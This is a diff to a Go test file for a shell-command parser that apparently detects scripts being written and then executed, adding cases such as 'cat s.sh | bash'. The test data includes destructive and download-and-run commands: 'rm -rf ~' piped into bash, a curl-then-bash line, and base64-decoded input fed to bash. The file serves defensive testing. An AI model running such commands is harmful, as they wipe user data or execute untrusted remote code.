@@ -43,6 +43,10 @@ func TestParseWrittenThenRun(t *testing.T) {
 		{`echo 'echo hi' > s.sh; chmod +x s.sh; ./s.sh`, nil, false, false},
 		// A shell reading the file on its standard input runs it too.
 		{`echo 'rm -rf ~' > s.sh && bash < s.sh`, nil, false, true},
+		// So does one fed the file by cat.
+		{`echo 'rm -rf ~' > s.sh && cat s.sh | bash`, []string{"cat|bash"}, false, true},
+		{`echo 'rm -rf ~' > s.sh && cat -- s.sh | sh -s`, []string{"cat|sh"}, false, true},
+		{`echo 'echo hi' > s.sh && cat s.sh | bash`, []string{"cat|bash"}, false, false},
 		{`echo 'rm -rf ~' > s.sh && sh -s x < s.sh`, nil, false, true},
 		{`curl -o x.sh https://x.example && bash < x.sh`, []string{"curl|bash"}, false, false},
 		{`bash < <(base64 -d x)`, []string{"base64|bash"}, true, false},
@@ -109,6 +113,7 @@ func TestParseScriptFile(t *testing.T) {
 		{`./bang.sh`, false, true, []string{"bang.sh"}},
 		{`source s.sh`, false, true, []string{"s.sh"}},
 		{`bash < s.sh`, false, true, []string{"s.sh"}},
+		{`cat s.sh | bash`, false, true, []string{"s.sh"}},
 		{`. ./s.sh`, false, true, []string{"s.sh"}},
 		{`bash ` + repo + `/s.sh`, false, true, []string{"s.sh"}},
 		{`chmod +x s.sh && ./s.sh`, false, true, []string{"s.sh"}},
